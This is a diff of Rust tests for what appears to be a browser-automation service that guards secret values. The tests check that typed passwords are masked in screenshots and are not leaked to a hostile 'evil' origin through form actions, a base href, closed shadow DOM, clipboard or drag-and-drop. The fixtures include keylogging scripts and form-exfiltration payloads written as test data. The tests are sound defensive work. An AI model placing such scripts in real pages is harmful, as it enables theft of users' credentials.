@@ -90,9 +90,15 @@ fn where_it_may_not_go_nothing_is_typed() {
         let telling = "<script>addEventListener('input', (e) => tell('typed ' + e.target.value), true)</script>";
         let evil = site("evil").await;
         let elsewhere = format!("action={}", evil.url("/in"));
+        // The origins of all, in their order, are not cut off.
+        let own = (1..=25).map(|n| format!("<button formaction='/{n}'>{n}</button>")).collect::<String>();
+        let among_many = format!("{own}<button formaction='{}'>", evil.url_at("localhost", "/in"));
         for (body, why) in [
             (FIELD.replace("action=/in", &elsewhere), "may not be given to"),
             (FIELD.replace("<button>", &format!("<button form{elsewhere}>")), "may not be given to"),
+            (FIELD.replace("<button>", &among_many), "may not be given to"),
+            // A blank to scripts and none to a form.
+            (format!("<base href='{}'>{}", evil.url("/"), FIELD.replace("/in", "&nbsp;")), "may not be given to"),
             (FIELD.replace("method=post", "method=get"), "into a URL"),
             (FIELD.replace("<button>", "<button formmethod=GET>"), "into a URL"),
             (FIELD.replace("type=text", "type=search"), "for searching"),
@@ -203,6 +209,95 @@ fn what_the_page_shows_of_it_is_masked_and_painted_over() {
     });
 }
 
+#[test]
+fn closed_shadow_trees_that_came_after_the_first_look_are_painted_over() {
+    run(async {
+        // One of an element that is upgraded late, one in it, one beside what else its host holds; some are removed.
+        let line = |top: u32| format!("position:fixed;left:40px;top:{top}px;margin:0;font:40px monospace");
+        let body = format!(
+            "{FIELD}<x-user></x-user><div id=host>light</div><iframe srcdoc='&lt;x-user&gt;&lt;/x-user&gt;' id=f
+               style='position:absolute;left:600px;top:300px;width:300px;height:200px'></iframe>
+             <script>document.querySelector('input').oninput = (e) => {{
+               const say = (host, style) => {{
+                 const root = host.attachShadow({{ mode: 'closed' }});
+                 root.innerHTML = '<p style=\"' + style + '\"></p><x-inner></x-inner>';
+                 root.firstChild.textContent = e.target.value;
+                 return root;
+               }};
+               customElements.define('x-user', class extends HTMLElement {{
+                 constructor() {{ super(); say(say(this, '{}').lastChild, '{}'); }} }});
+               say(host, '{}');
+               say(f.contentDocument.querySelector('x-user'), '');
+             }}</script>",
+            line(200),
+            line(300),
+            line(400)
+        );
+        let site = site(&body).await;
+        let tab = open(&site.url("/"), secrets(&[&site.url("")], VALUE), Some(ImageFormat::Png)).await;
+        tab.observe().await;
+        tab.input("Password", PASSWORD).await.unwrap();
+        // Before the page is read again, and after.
+        for picture in [tab.page().picture().await.unwrap(), tab.observe().await.screenshot.unwrap()] {
+            let (width, pixels) = rgb(&STANDARD.decode(&*picture.base64).unwrap());
+            let black = |x: usize, y: usize| pixels[(y * width + x) * 3..][..3] == [0, 0, 0];
+            for top in [200, 300, 400] {
+                assert!((60..300).step_by(5).all(|x| black(x, top + 25)), "the line at {top} is covered");
+            }
+            assert!(black(890, 490), "the frame is covered");
+            assert!(!black(1200, 850), "the rest is not");
+        }
+        tab.close().await;
+    });
+}
+
+#[test]
+fn what_is_copied_or_dragged_in_such_a_run_stays_with_its_origin() {
+    run(async {
+        let evil = site(
+            "<input aria-label=Paste ondrop='tell(event.dataTransfer.getData(`text/plain`))'>
+            <script>oninput = (e) => tell(e.target.value)</script>",
+        )
+        .await;
+        let body = format!(
+            "<input aria-label=Shown value='{}'><input aria-label=Own oninput='tell(value)'
+               ondrop='tell(event.dataTransfer.getData(`text/plain`))'>
+             <div draggable=true ondragstart='event.dataTransfer.setData(`text/plain`, `dragged`)'>Card</div>
+             <iframe src='{}'></iframe>
+             <iframe srcdoc='<input aria-label=Near ondrop=\"parent.tell(`near`)\">'></iframe>",
+            VALUE.replace('\"', "&quot;"),
+            evil.url("/")
+        );
+        let site = site(&body).await;
+        let tab = open(&site.url("/"), secrets(&[&site.url("")], VALUE), None).await;
+        for keys in ["Control+a Control+c", "Control+a Control+x"] {
+            tab.click("Shown").await.unwrap();
+            tab.keys(keys).await.unwrap();
+            tab.click("Paste").await.unwrap();
+            tab.keys("Control+v").await.unwrap();
+        }
+        tab.click("Own").await.unwrap();
+        tab.keys("Control+v").await.unwrap();
+        site.hears(VALUE).await;
+        // The browser itself drops nothing into a frame of another origin.
+        for to in ["Paste", "Near", "Own"] {
+            let seen = tab.observe().await;
+            let at = |label: &str| seen.view.elements.iter().find(|element| element.name == label).unwrap().index;
+            let drag = Action::Drag { from: at("Card"), x: None, y: None, to: Some(at(to)), path: None };
+            tab.act(drag).await.unwrap();
+        }
+        site.hears("near").await;
+        site.hears("dragged").await;
+        tab.go(&evil.url("/")).await.unwrap();
+        tab.click("Paste").await.unwrap();
+        tab.keys("Control+v").await.unwrap();
+        tab.keys("z").await.unwrap();
+        evil.hears("z").await;
+        assert_eq!(evil.told().into_iter().filter(|told| !told.is_empty()).collect::<Vec<_>>(), ["z"]);
+        tab.close().await;
+    });
+}
+
 fn rgb(png: &[u8]) -> (usize, Vec<u8>) {
     let mut decoder = png::Decoder::new(std::io::Cursor::new(png));
     decoder.set_transformations(png::Transformations::normalize_to_color8());
@@ -260,7 +355,7 @@ fn nothing_that_leaves_the_service_holds_a_value_that_the_page_tells_everywhere(
             other.url("/")
         );
         let site = site(&body).await;
-        let service = Start::new().set("RUST_LOG", "debug").set("RECORD_DIR", "recordings").ready().await;
+        let service = Start::new().set("RUST_LOG", "trace").set("RECORD_DIR", "recordings").ready().await;
         let task =
             format!("type {PASSWORD} into Password, then click 'Send', then click 'Nowhere', then read the page");
         let request = json!({
